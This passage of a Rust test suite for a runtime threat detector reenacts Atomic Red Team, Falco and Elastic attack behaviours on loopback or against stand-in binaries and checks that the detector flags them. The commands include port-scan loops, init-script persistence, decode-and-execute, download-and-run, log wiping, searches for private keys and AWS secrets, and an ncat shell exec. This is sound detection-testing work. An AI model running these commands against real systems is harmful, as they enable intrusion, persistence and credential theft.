        format!("{}/vigil-{n}/...", env!("CARGO_TARGET_TMPDIR")),
        "sh",
        "/bin/sh",
    );
    let spaced = stage(
        &mut clean,
        format!("{}/vigil-{n}", env!("CARGO_TARGET_TMPDIR")),
        "init  ",
        "/bin/true",
    );
    let imitating = "a file or directory name that imitates another (`...`, a trailing space)";
    for exe in [&dots, &spaced] {
        let pid = run(Command::new(exe).args(["-c", "true"]));
        assert_eq!(
            masquerades(&detect(pid)),
            [(imitating.to_owned(), SeverityLabel::Medium)],
            "{exe:?}"
        );
    }
    for (dir, name) in [("My Tools", "true"), ("a.b", "c.d")] {
        let exe = stage(
            &mut clean,
            format!("{}/vigil-{n}/{dir}", env!("CARGO_TARGET_TMPDIR")),
            name,
            "/bin/true",
        );
        let found = detect(run(&mut Command::new(&exe)));
        assert!(masquerades(&found).is_empty(), "{exe}: {:?}", kinds(&found));
    }
    // Shells' own names.
    for script in [
        "exec -a -bash bash -c true",
        "sh -c true; true",
        "exec -a sh bash -c true",
    ] {
        let pid = run(Command::new("bash").args(["-c", script]));
        assert!(masquerades(&detect(pid)).is_empty(), "{script}");
    }
}

/// A port scan of loopback seen from the connects the kernel refused, whatever ran it (issue 11,
/// third red-team pass): a bash loop over `/dev/tcp/127.0.0.1/$p` as a line of a script file
/// (no argv holds it; each probe is a forked subshell, counted for the bash that exec'd) and
/// a python socket loop, and the same loop with a connect timeout (python then connects without
/// blocking: the syscall returns `EINPROGRESS`, and the refusal is read from the socket, as for
/// `nc -z`). Ports 1-40 of loopback are closed here (the test checks, and says so when some
/// listen). Three refused ports, and twenty connects to one listening port, raise nothing.
#[test]
fn port_scans_of_loopback_from_refused_connects() {
    if !privileged("port_scans_of_loopback_from_refused_connects") {
        return;
    }
    let open: Vec<u16> = (1..=40u16)
        .filter(|p| std::net::TcpStream::connect(("127.0.0.1", *p)).is_ok())
        .collect();
    assert!(
        open.len() < 10,
        "ports {open:?} of loopback listen: this test needs most of 1-40 closed"
    );
    let dir = Scratch::new("scan");
    let script = dir.path("scan.sh");
    std::fs::write(
        &script,
        "for p in $(seq 1 40); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null && echo open $p; done\n",
    )
    .expect("script");
    let scans = |found: &[Finding]| -> Vec<(String, SeverityLabel)> {
        of(found, "behaviour-port-scan")
            .into_iter()
            .map(|f| {
                (
                    f.context
                        .additional
                        .get("scannedHost")
                        .cloned()
                        .unwrap_or_default(),
                    f.severity_label,
                )
            })
            .collect()
    };
    let want = vec![("127.0.0.1".to_owned(), SeverityLabel::Medium)];
    let found = detect(run(Command::new("bash").arg(&script)));
    assert_eq!(scans(&found), want, "bash loop: {:?}", kinds(&found));
    let f = of(&found, "behaviour-port-scan");
    assert_eq!(f[0].finding_type, "Discovery:Runtime/SuspiciousCommand");
    let python = [
        "import socket",
        "for p in range(1, 41):",
        "    s = socket.socket()",
        "    s.connect_ex(('127.0.0.1', p))",
        "    s.close()",
    ]
    .join("\n");
    let found = detect(run(Command::new("python3").args(["-c", &python])));
    assert_eq!(scans(&found), want, "python: {:?}", kinds(&found));
    let with_timeout = python.replace(
        "s = socket.socket()",
        "s = socket.socket(); s.settimeout(2)",
    );
    let found = detect(run(Command::new("python3").args(["-c", &with_timeout])));
    assert_eq!(
        scans(&found),
        want,
        "python with a timeout: {:?}",
        kinds(&found)
    );

    // Not scans: three closed ports, and one listening port connected to twenty times.
    let found = detect(run(Command::new("bash").args([
        "-c",
        "for p in 1 2 3; do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
    ])));
    assert!(scans(&found).is_empty());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let found = detect(run(Command::new("bash").args([
        "-c",
        &format!("for i in $(seq 1 20); do (echo > /dev/tcp/127.0.0.1/{port}) 2>/dev/null; done"),
    ])));
    assert!(scans(&found).is_empty());
    drop(listener);
}

/// Atomic Red Team's T1037.004 #2 as its executor runs it (bash, `tee` through `sudo`, here
/// without: the test is root): `/etc/rc.common` written line by line and made executable; and
/// Red Hat's init directory, which `/etc/init.d` links to there. Reading rc.common raises
/// nothing. The file is put back as it was (removed: this host has none).
#[test]
fn rc_common_and_red_hats_init_directory_written_as_persistence() {
    if !privileged("rc_common_and_red_hats_init_directory_written_as_persistence") {
        return;
    }
    let rc_common = Path::new("/etc/rc.common");
    let before = std::fs::read(rc_common).ok();
    struct PutBack(Option<Vec<u8>>);
    impl Drop for PutBack {
        fn drop(&mut self) {
            match &self.0 {
                Some(bytes) => {
                    let _ = std::fs::write("/etc/rc.common", bytes);
                }
                None => {
                    let _ = std::fs::remove_file("/etc/rc.common");
                }
            }
        }
    }
    let _put_back = PutBack(before);
    let found = detect(run(Command::new("bash").args([
        "-c",
        "printf '%s\\n' '#!/bin/bash' | tee /etc/rc.common\n\
         echo \"python3 -c \\\"print(1)\\\"\" | tee -a /etc/rc.common\n\
         printf '%s\\n' 'exit 0' | tee -a /etc/rc.common\n\
         chmod +x /etc/rc.common\n",
    ])));
    let f = of(&found, "behaviour-persistence-init");
    assert!(!f.is_empty(), "{:?}", kinds(&found));
    for f in f {
        assert_eq!(f.finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f.context.file_path.as_deref(), Some("/etc/rc.common"));
    }
    let found = detect(run(
        Command::new("sh").args(["-c", "cat /etc/rc.common > /dev/null"])
    ));
    assert!(found.is_empty(), "reading: {:?}", kinds(&found));

    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/etc/rc.d/init.d"));
    let script = clean.file(format!("/etc/rc.d/init.d/vigil-{}", nonce()));
    let found = detect(sh(&format!("printf '#!/bin/sh\\ntrue\\n' > {script}")));
    expect_persistence(&found, "behaviour-persistence-init", "init", &script, "sh");
}

/// Atomic Red Team's T1027 #1 as its `sh` executor runs it: base64 text written to a file,
/// decoded by `base64 -d` into a script, made executable and run (the script has no `#!`:
/// dash runs it through `/bin/sh`, whose operand it is); and a `#!` script and a binary decoded
/// the same way. Benign: a file encoded (`base64` without `-d`), data decoded and only read, a
/// script written by `printf` and run.
#[test]
fn a_script_or_binary_decoded_into_a_file_then_run() {
    if !privileged("a_script_or_binary_decoded_into_a_file_then_run") {
        return;
    }
    let dir = Scratch::new("decoded");
    std::fs::write(
        dir.path("true.b64"),
        base64_of(&std::fs::read("/usr/bin/true").expect("read /usr/bin/true")),
    )
    .expect("encoded binary");
    let rule_id = "behaviour-decode-exec";
    for (name, script, what) in [
        (
            "atomic",
            // `echo Hello from the Atomic Red Team`, as the atomic's data.
            "sh -c \"echo ZWNobyBIZWxsbyBmcm9tIHRoZSBBdG9taWMgUmVkIFRlYW0= > encoded.dat\"\n\
             cat encoded.dat | base64 -d > art.sh\nchmod +x art.sh\n./art.sh\n",
            "script passed to an interpreter",
        ),
        (
            "shebang",
            "echo IyEvYmluL3NoCnRydWUK | base64 -d > art.sh\nchmod +x art.sh\n./art.sh\n",
            "script",
        ),
        (
            "binary",
            // In a pipeline: dash opens a simple command's redirection itself before it forks
            // (`base64 -d f > x` names the shell as the writer), a pipeline's in the child.
            "cat true.b64 | base64 -d > art.sh\nchmod +x art.sh\n./art.sh\n",
            "binary",
        ),
    ] {
        let _ = std::fs::remove_file(dir.path("art.sh"));
        let found = detect(run(Command::new("sh")
            .args(["-c", script])
            .current_dir(&dir.0)));
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Execution:Runtime/SuspiciousCommand");
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
        assert_eq!(f[0].context.additional["decodedBy"], "/usr/bin/base64");
        assert_eq!(f[0].context.additional["executedFile"], what, "{name}");
        assert_eq!(
            f[0].context.file_path.as_deref(),
            Some(dir.path("art.sh").as_str()),
            "{name}"
        );
    }
    let found = detect(run(Command::new("sh")
        .args([
            "-c",
            "base64 true.b64 > twice.b64\nbase64 -d true.b64 > data.bin\ncmp -s data.bin /usr/bin/true\n\
             printf 'true\\n' > local.sh\nchmod +x local.sh\n./local.sh\nsh local.sh\n",
        ])
        .current_dir(&dir.0)));
    assert!(
        found.iter().all(|f| f.severity_label == SeverityLabel::Low),
        "nothing at Medium or above: {:?}",
        kinds(&found)
    );
}

/// Standard base64 with padding, as `base64` writes it (one line).
fn base64_of(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out.push('\n');
    out
}

/// Atomic Red Team's T1105 #27 as its `sh` executor runs it, in /tmp: a script fetched with
/// `curl -sO`, then `chmod +x atomic.sh | bash atomic.sh`. Run from a world-writable directory
/// it is also `behaviour-exec-from-world-writable-dir` (Low on the host); the two checks'
/// findings used to share an id, so the High one was folded into the Low one and never shown.
#[test]
fn a_downloaded_script_run_from_tmp_is_download_and_execute_besides_the_low_finding() {
    if !privileged(
        "a_downloaded_script_run_from_tmp_is_download_and_execute_besides_the_low_finding",
    ) {
        return;
    }
    let url = http_server();
    let dir = PathBuf::from(format!("/tmp/vigil-dl-{}", nonce()));
    let mut clean = Cleanup::default();
    clean.dirs(&dir);
    clean.file(dir.join("run.sh"));
    let found = detect(run(Command::new("sh")
        .args([
            "-c",
            &format!("curl -sO {url}/run.sh; chmod +x run.sh | bash run.sh"),
        ])
        .current_dir(&dir)));
    let script = dir.join("run.sh").display().to_string();
    let high = of(&found, "behaviour-download-exec");
    assert_eq!(high.len(), 1, "{:?}", kinds(&found));
    assert_eq!(high[0].severity_label, SeverityLabel::High);
    assert_eq!(high[0].context.file_path.as_deref(), Some(script.as_str()));
    let low = of(&found, "behaviour-exec-from-world-writable-dir");
    assert_eq!(low.len(), 1, "{:?}", kinds(&found));
    assert_ne!(high[0].id, low[0].id);
}

/// Atomic Red Team's T1070.002 #18 and #1 as their executors run them: a mail spool overwritten
/// by a shell's redirection (`echo 0> /var/spool/mail/NAME`; the spool here is a file of the
/// test's own, and Debian's /var/spool/mail links to /var/mail) and `/var/log/system.log`
/// removed with `rm -rf` (created for the test when the host has none). Reading the spool
/// raises nothing.
#[test]
fn a_mail_spool_overwritten_and_another_system_log_removed() {
    if !privileged("a_mail_spool_overwritten_and_another_system_log_removed") {
        return;
    }
    let mut clean = Cleanup::default();
    let name = format!("vigil-{}", nonce());
    let spool = if Path::new("/var/mail").is_dir() {
        "/var/mail"
    } else {
        "/var/spool/mail"
    };
    let file = clean.file(format!("{spool}/{name}"));
    std::fs::write(&file, "From root\n").expect("spool");
    let found = detect(run(
        Command::new("bash").args(["-c", &format!("echo 0> /var/spool/mail/{name}")])
    ));
    let f = of(&found, "behaviour-logs-wiped");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    assert_eq!(f[0].severity_label, SeverityLabel::High);
    assert_eq!(f[0].context.file_path.as_deref(), Some(file.as_str()));
    assert_eq!(f[0].context.additional["tampering"], "truncated");
    let found = detect(sh(&format!("cat {file} > /dev/null")));
    assert!(found.is_empty(), "reading: {:?}", kinds(&found));

    let log = Path::new("/var/log/system.log");
    if log.exists() {
        eprintln!("/var/log/system.log exists on this host: its removal is not tried");
        return;
    }
    std::fs::write(log, "x\n").expect("system.log");
    clean.file(log);
    let found = detect(sh("rm -rf /var/log/system.log"));
    let f = of(&found, "behaviour-logs-wiped");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(f[0].context.additional["tampering"], "removed");
    assert_eq!(
        of(&found, "evasion-wipe-logs").len(),
        1,
        "{:?}",
        kinds(&found)
    );
}

/// Atomic Red Team's T1562.006 #1 and #2 as their bash executor runs them: a comment line
/// appended with `sed -i '$ a ...'` to the audit library's and the syslog daemon's
/// configuration (sed renames its copy over the file). Each file is put back as it was;
/// reading them raises nothing.
#[test]
fn audit_and_logging_configuration_changed() {
    if !privileged("audit_and_logging_configuration_changed") {
        return;
    }
    for file in ["/etc/rsyslog.conf", "/etc/libaudit.conf"] {
        let Ok(before) = std::fs::read(file) else {
            eprintln!("{file} is missing on this host: not tried");
            continue;
        };
        let found =
            detect(run(Command::new("bash").args([
                "-c",
                &format!("sed -i '$ a #vigil_test_1562_006' {file}"),
            ])));
        std::fs::write(file, &before).expect("put the file back");
        let f = of(&found, "behaviour-logging-config-changed");
        assert_eq!(f.len(), 1, "{file}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
        assert_eq!(f[0].context.file_path.as_deref(), Some(file));
        let found = detect(sh(&format!("cat {file} > /dev/null")));
        assert!(found.is_empty(), "reading {file}: {:?}", kinds(&found));
    }
}

/// Falco's event generator (`events/syscall/`), the actions whose GuardDuty type Vigil missed
/// before issue 11's fourth pass, each done as the action does it at the system-call level, with
/// a benign twin: a program truncating a file named `syslog` (Clear Log Activities), writing an
/// `authorized_keys` itself (Adding SSH Keys), `ln` of `/etc/shadow` and `ln -s /etc`, a program
/// started with `-o stratum+tcp`, and Baron Samedit's and PwnKit's runs of `sudoedit` and
/// `pkexec` as daemon (copies of `/bin/true` under the tools' names, as this machine has
/// neither: the rules know them by name and argv).
#[test]
fn falco_event_generator_actions_as_they_run_them() {
    if !privileged("falco_event_generator_actions_as_they_run_them") {
        return;
    }
    let dir = Scratch::new("falco");
    let expect = |pid: u32, what: &str, finding_type: &str, rule_id: &str, label: SeverityLabel| {
        let found = detect(pid);
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, finding_type, "{what}");
        assert_eq!(f[0].severity_label, label, "{what}");
    };
    let python = |code: &str, arg: &str| run(Command::new("python3").args(["-c", code, arg]));
    let none_of = |pid: u32, what: &str, rule_id: &str| {
        let found = detect(pid);
        assert!(
            of(&found, rule_id).is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    };

    // Clear Log Activities: os.OpenFile(dir/syslog, O_CREATE|O_TRUNC|O_WRONLY).
    let truncate = "import os, sys; os.close(os.open(sys.argv[1], os.O_CREAT | os.O_TRUNC | os.O_WRONLY, 0o644))";
    let append = "import os, sys; os.close(os.open(sys.argv[1], os.O_CREAT | os.O_APPEND | os.O_WRONLY, 0o644))";
    expect(
        python(truncate, &dir.path("syslog")),
        "a file named syslog truncated",
        "DefenseEvasion:Runtime/SuspiciousCommand",
        "behaviour-logs-wiped",
        SeverityLabel::Medium,
    );
    none_of(
        python(append, &dir.path("syslog")),
        "syslog appended to",
        "behaviour-logs-wiped",
    );
    none_of(
        python(truncate, &dir.path("syslog.txt")),
        "another name truncated",
        "behaviour-logs-wiped",
    );

    // Adding SSH Keys: os.WriteFile(.../.ssh/authorized_keys) from the program itself.
    let ssh = dir.path("home/created-by-falco-event-generator/.ssh");
    std::fs::create_dir_all(&ssh).expect("ssh dir");
    let write = "import sys; open(sys.argv[1], 'w').write('ssh-rsa AAAA test\\n')";
    expect(
        python(write, &format!("{ssh}/authorized_keys")),
        "authorized_keys written by a program",
        "Persistence:Runtime/SuspiciousCommand",
        "behaviour-persistence-ssh-keys",
        SeverityLabel::Medium,
    );
    none_of(
        python(write, &format!("{ssh}/known_hosts")),
        "known_hosts written",
        "behaviour-persistence-ssh-keys",
    );

    // Create Hardlink / Symlink Over Sensitive Files.
    expect(
        run(Command::new("ln").args(["-v", "/etc/shadow", &dir.path("shadow_link")])),
        "ln /etc/shadow",
        "Discovery:Runtime/SuspiciousCommand",
        "discovery-credential-file-linked",
        SeverityLabel::Medium,
    );
    let _ = std::fs::remove_file(dir.path("shadow_link"));
    expect(
        run(Command::new("ln").args(["-s", "/etc", &dir.path("etc_link")])),
        "ln -s /etc",
        "Discovery:Runtime/SuspiciousCommand",
        "discovery-sensitive-directory-linked",
        SeverityLabel::Low,
    );
    let linked = run(Command::new("ln").args(["-s", "/etc/hostname", &dir.path("hostname")]));
    let found = detect(linked);
    assert!(
        found.iter().all(|f| !rule(f).contains("linked")),
        "ln -s /etc/hostname: {:?}",
        kinds(&found)
    );

    // Detect Crypto Miners Using the Stratum Protocol: `ls "-o stratum+tcp" ...`.
    expect(
        run(Command::new("ls").args(["-o stratum+tcp", "-u user", "-p pass"])),
        "ls -o stratum+tcp",
        "Impact:Runtime/CryptoMinerExecuted",
        "miner-stratum-url",
        SeverityLabel::High,
    );

    // Sudo Potential Privilege Escalation and Polkit (CVE-2021-3156, CVE-2021-4034), as daemon.
    let bin = dir.path("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    for tool in ["sudoedit", "pkexec"] {
        std::fs::copy("/bin/true", format!("{bin}/{tool}")).expect("stand-in");
    }
    let as_daemon = |args: &[&str]| run(Command::new(args[0]).args(&args[1..]).uid(1).gid(1));
    expect(
        as_daemon(&[&format!("{bin}/sudoedit"), "-u", "daemon", "-s", "ls\\"]),
        "sudoedit -s 'ls\\'",
        "PrivilegeEscalation:Runtime/SuspiciousCommand",
        "privesc-sudoedit-heap-overflow",
        SeverityLabel::High,
    );
    none_of(
        as_daemon(&[&format!("{bin}/sudoedit"), "/etc/hosts"]),
        "sudoedit /etc/hosts",
        "privesc-sudoedit-heap-overflow",
    );
    expect(
        as_daemon(&[&format!("{bin}/pkexec")]),
        "pkexec with no program",
        "PrivilegeEscalation:Runtime/SuspiciousCommand",
        "privesc-pkexec-without-program",
        SeverityLabel::Medium,
    );
    none_of(
        as_daemon(&[&format!("{bin}/pkexec"), "/usr/bin/true"]),
        "pkexec /usr/bin/true",
        "privesc-pkexec-without-program",
    );
}

/// Falco's rules files (`falcosecurity/rules`), the rules the event generator has no action
/// for, as the tools run them: "Search Private Keys or Passwords" and "Find AWS Credentials"
/// (`grep -r "BEGIN RSA PRIVATE" DIR`, `grep -ri aws_secret_access_key DIR`), "Read ssh
/// information" (`tar czf` of a `.ssh` directory), "Read environment variable from /proc
/// files" (`cat /proc/1/environ`) and "Netcat Remote Code Execution" by ncat's long option
/// (`ncat H P --sh-exec`, a copy of `/bin/true` under ncat's name: it is not installed here).
/// Benign twins: one key file checked without recursion, certificates searched for, an archive
/// unpacked into `.ssh`, a program's own `/proc/self/environ`, `ncat --ssl`.
#[test]
fn falco_rules_files_searches_reads_and_ncat_as_the_tools_run_them() {
    if !privileged("falco_rules_files_searches_reads_and_ncat_as_the_tools_run_them") {
        return;
    }
    let dir = Scratch::new("falco-rules");
    let expect = |pid: u32, what: &str, finding_type: &str, rule_id: &str, label: SeverityLabel| {
        let found = detect(pid);
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, finding_type, "{what}");
        assert_eq!(f[0].severity_label, label, "{what}");
    };
    let none_of = |pid: u32, what: &str, rule_id: &str| {
        let found = detect(pid);
        assert!(
            of(&found, rule_id).is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    };
    let keys = dir.path("keys");
    std::fs::create_dir_all(format!("{keys}/.aws")).expect("keys dir");
    let pem = format!("{keys}/site.key");
    std::fs::write(
        &pem,
        "-----BEGIN RSA PRIVATE KEY-----\nMIIfake\n-----END RSA PRIVATE KEY-----\n",
    )
    .expect("key");
    std::fs::write(
        format!("{keys}/.aws/credentials"),
        "[default]\naws_secret_access_key = fake\n",
    )
    .expect("credentials");

    expect(
        run(Command::new("grep").args(["-r", "BEGIN RSA PRIVATE", &keys])),
        "grep -r BEGIN RSA PRIVATE",
        "Discovery:Runtime/SuspiciousCommand",
        "discovery-password-search",
        SeverityLabel::Low,
    );
    expect(
        run(Command::new("grep").args(["-ri", "aws_secret_access_key", &keys])),
        "grep -ri aws_secret_access_key",
        "Discovery:Runtime/SuspiciousCommand",
        "discovery-password-search",
        SeverityLabel::Low,
    );
    none_of(
        run(Command::new("grep").args(["-q", "BEGIN RSA PRIVATE KEY", &pem])),
        "one key file checked",
        "discovery-password-search",
    );
    none_of(
        run(Command::new("grep").args(["-r", "BEGIN CERTIFICATE", &keys])),
        "certificates searched for",
        "discovery-password-search",
    );

    // Read ssh information: the directory archived, not an archive unpacked into it.
    let home = dir.path("home");
    std::fs::create_dir_all(format!("{home}/.ssh")).expect(".ssh");
    std::fs::copy(&pem, format!("{home}/.ssh/id_rsa")).expect("id_rsa");
    let archive = dir.path("k.tgz");
    expect(
        run(Command::new("tar").args(["czf", &archive, "-C", &home, ".ssh"])),
        "tar czf of .ssh",
        "Discovery:Runtime/SuspiciousCommand",
        "discovery-credential-file-read",
        SeverityLabel::Low,
    );
    none_of(
        run(Command::new("tar").args(["xzf", &archive, "-C", &format!("{home}/.ssh")])),
        "tar xzf into .ssh",
        "discovery-credential-file-read",
    );

    // Read environment variable from /proc files: another process's, not its own.
    expect(
        run(Command::new("cat").arg("/proc/1/environ")),
        "cat /proc/1/environ",
        "Discovery:Runtime/SuspiciousCommand",
        "discovery-credential-file-read",
        SeverityLabel::Low,
    );
    none_of(
        run(Command::new("cat").arg("/proc/self/environ")),
        "cat /proc/self/environ",
        "discovery-credential-file-read",
    );

    // Netcat Remote Code Execution by ncat's long option.
    let bin = dir.path("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    let ncat = format!("{bin}/ncat");
    std::fs::copy("/bin/true", &ncat).expect("stand-in");
    expect(
        run(Command::new(&ncat).args(["127.0.0.1", "4444", "--sh-exec", "/bin/bash -i"])),
        "ncat --sh-exec",
        "Execution:Runtime/SuspiciousTool",
        "tool-netcat-exec",
        SeverityLabel::High,
    );
    none_of(
        run(Command::new(&ncat).args(["--ssl", "127.0.0.1", "443"])),
        "ncat --ssl",
        "tool-netcat-exec",
    );
}

/// Falco's "Disallowed SSH Connection Non Standard Port", as the real client runs it: `ssh -N
/// -R 9999:127.0.0.1:22 -p 4444 u@127.0.0.1` (a reverse forward to a listener's port; nothing
/// listens, the client exits on the refused connect) raises `tool-ssh-reverse-tunnel`; the same
/// reverse forward to port 22 and a plain session on port 443 raise nothing.
#[test]
fn an_ssh_reverse_tunnel_to_a_port_egress_lets_out() {
    if !privileged("an_ssh_reverse_tunnel_to_a_port_egress_lets_out") {
        return;
    }
    let ssh = |args: &[&str]| {
        let found = detect(run(Command::new("ssh")
            .args([
                "-o",
                "BatchMode=yes",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "ConnectTimeout=2",
            ])
            .args(args)
            .stdin(Stdio::null())));
        of(&found, "tool-ssh-reverse-tunnel")
            .iter()
            .map(|f| (f.finding_type.clone(), f.severity_label))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        ssh(&[
            "-N",
            "-R",
            "9999:127.0.0.1:22",
            "-p",
            "4444",
            "falco@127.0.0.1"
        ]),
        vec![(
            "Execution:Runtime/SuspiciousTool".to_owned(),
            SeverityLabel::Medium
        )],
        "ssh -R to port 4444"
    );
    assert!(
        ssh(&["-N", "-R", "9999:127.0.0.1:22", "falco@127.0.0.1"]).is_empty(),
        "ssh -R to port 22"
    );
    assert!(
        ssh(&["-p", "443", "-N", "falco@127.0.0.1"]).is_empty(),
        "ssh -p 443 without -R"
    );
}

/// Elastic's endpoint behaviour rules for Linux (collection to defence evasion), as the tools
/// run them: a directory bind-mounted on a hidden mount point under /mnt ("Linux Hidden File
/// Mounted"), curl fetching from a URL whose host is hexadecimal ("Hexadecimal IP Command-Line
/// Argument"), curl and wget saving downloads into a hidden directory and as a hidden library
/// under /tmp and /dev/shm ("File Downloaded via Curl or Wget to Hidden Directory", "Creation of
/// Hidden Shared Object File"), and `ssh-keygen -D` handed a provider built in /tmp, whose
/// constructor runs in ssh-pkcs11-helper ("Linux Shared Object Load via SSH-Keygen"). Each
/// raises its rule at Medium or High; the same programs at their ordinary work (a visible mount
/// point, a dotted-quad URL with `0x` in its path, a visible download in /tmp, a hidden
/// directory of the scratch tree, `ssh-keygen -l`) raise none of them. A file in /dev/shm made
/// executable ("Linux File Made Executable by Suspicious Parent") raises its rule; the same file
/// given mode 644 does not.
#[test]
fn hidden_mounts_hex_hosts_hidden_downloads_and_pkcs11_providers() {
    if !privileged("hidden_mounts_hex_hosts_hidden_downloads_and_pkcs11_providers") {
        return;
    }
    const EVASION: &str = "DefenseEvasion:Runtime/SuspiciousCommand";
    let expect = |pid: u32, what: &str, rule_id: &str, label: SeverityLabel| {
        let found = detect(pid);
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, EVASION, "{what}");
        assert_eq!(f[0].severity_label, label, "{what}");
    };
    let none_of = |pid: u32, what: &str, rule_id: &str| {
        let found = detect(pid);
        assert!(
            of(&found, rule_id).is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    };
    let dir = Scratch::new("elastic-endpoint");
    let mut clean = Cleanup::default();
    let n = nonce();

    // A hidden mount point, unmounted before the findings are looked at.
    let source = dir.path("source");
    std::fs::create_dir_all(&source).expect("mount source");
    let mount = |target: &Path| {
        clean_mount(target);
        let pid = run(Command::new("mount").arg("--bind").arg(&source).arg(target));
        clean_mount(target);
        pid
    };
    fn clean_mount(target: &Path) {
        let _ = Command::new("umount")
            .arg(target)
            .stderr(Stdio::null())
            .status();
    }
    let hidden = PathBuf::from(format!("/mnt/.{n}"));
    let visible = PathBuf::from(format!("/mnt/{n}"));
    clean.dirs(&hidden);
    clean.dirs(&visible);
    expect(
        mount(&hidden),
        "mount --bind DIR /mnt/.NAME",
        "evasion-hidden-mount",
        SeverityLabel::Medium,
    );
    none_of(
        mount(&visible),
        "mount --bind DIR /mnt/NAME",
        "evasion-hidden-mount",
    );

    // A hexadecimal host, and an address written as people write it.
    let url = http_server();
    let port = url.rsplit(':').next().expect("the server's port");
    expect(
        run(Command::new("curl").args([
            "-s",
            "-o",
            "/dev/null",
            &format!("http://0x7f000001:{port}/x.sh"),
        ])),
        "curl http://0x7f000001:PORT/x.sh",
        "evasion-hex-ip-url",
        SeverityLabel::Medium,
    );
    none_of(
        run(Command::new("curl").args(["-s", "-o", "/dev/null", &format!("{url}/0x10")])),
        "curl http://127.0.0.1:PORT/0x10",
        "evasion-hex-ip-url",
    );

    // Downloads staged under dot names in the shared temporary directories.
    let tmp_hidden = PathBuf::from(format!("/tmp/.{n}"));
    clean.dirs(&tmp_hidden);
    let payload = clean.file(tmp_hidden.join("payload"));
    expect(
        run(Command::new("curl").args(["-s", "-o", &payload, &format!("{url}/run.sh")])),
        "curl -o /tmp/.NAME/payload",
        "evasion-download-to-hidden-path",
        SeverityLabel::Medium,
    );
    let shm_hidden = PathBuf::from(format!("/dev/shm/.{n}"));
    clean.dirs(&shm_hidden);
    clean.file(shm_hidden.join("run.sh"));
    if Command::new("wget").arg("--version").output().is_ok() {
        expect(
            run(Command::new("wget")
                .args(["-q", "-P"])
                .arg(&shm_hidden)
                .arg(format!("{url}/run.sh"))),
            "wget -P /dev/shm/.NAME",
            "evasion-download-to-hidden-path",
            SeverityLabel::Medium,
        );
    } else {
        not_tested("NOT TESTED wget -P /dev/shm/.NAME: no wget on this machine");
    }
    let library = clean.file(format!("/tmp/.{n}.so"));
    expect(
        run(Command::new("curl").args(["-s", "-o", &library, &format!("{url}/true.bin")])),
        "curl -o /tmp/.NAME.so",
        "evasion-download-to-hidden-path",
        SeverityLabel::Medium,
    );
    let visible_download = clean.file(format!("/tmp/{n}.tgz"));
    none_of(
        run(Command::new("curl").args(["-s", "-o", &visible_download, &format!("{url}/x.sh")])),
        "curl -o /tmp/NAME.tgz",
        "evasion-download-to-hidden-path",
    );
    let cache = dir.path(".cache");
    std::fs::create_dir_all(&cache).expect("a hidden directory of the scratch tree");
    none_of(
        run(Command::new("curl").args([
            "-s",
            "-o",
            &format!("{cache}/x.sh"),
            &format!("{url}/x.sh"),
        ])),
        "curl -o SCRATCH/.cache/x.sh",
        "evasion-download-to-hidden-path",
    );

    // A stage in shared memory made executable, and a state file there given its mode.
    let stage = clean.file(format!("/dev/shm/vigil-{n}-stage"));
    std::fs::write(&stage, "#!/bin/sh\ntrue\n").expect("a stage in /dev/shm");
    expect(
        run(Command::new("chmod").args(["+x", &stage])),
        "chmod +x /dev/shm/NAME",
        "evasion-shm-file-made-executable",
        SeverityLabel::Medium,
    );
    none_of(
        run(Command::new("chmod").args(["644", &stage])),
        "chmod 644 /dev/shm/NAME",
        "evasion-shm-file-made-executable",
    );

    // ssh-keygen -D: the provider's constructor runs in ssh-pkcs11-helper.
    none_of(
        run(Command::new("ssh-keygen").args(["-l", "-f", "/dev/null"])),
        "ssh-keygen -l",
        "evasion-ssh-pkcs11-library",
    );
    if Command::new("gcc").arg("--version").output().is_err() {
        not_tested("NOT TESTED ssh-keygen -D: no gcc to build a provider");
        return;
    }
    let provider_source = dir.path("provider.c");
    let marker = dir.path("provider-ran");
    std::fs::write(
        &provider_source,
        format!(
            "#include <stdio.h>\n__attribute__((constructor)) static void loaded(void) {{ \
             FILE *f = fopen(\"{marker}\", \"w\"); if (f) fclose(f); }}\n\
             int C_GetFunctionList(void *list) {{ (void)list; return 1; }}\n"
        ),
    )
    .expect("the provider's source");
    let provider_dir = PathBuf::from(format!("/tmp/vigil-{n}-pkcs11"));
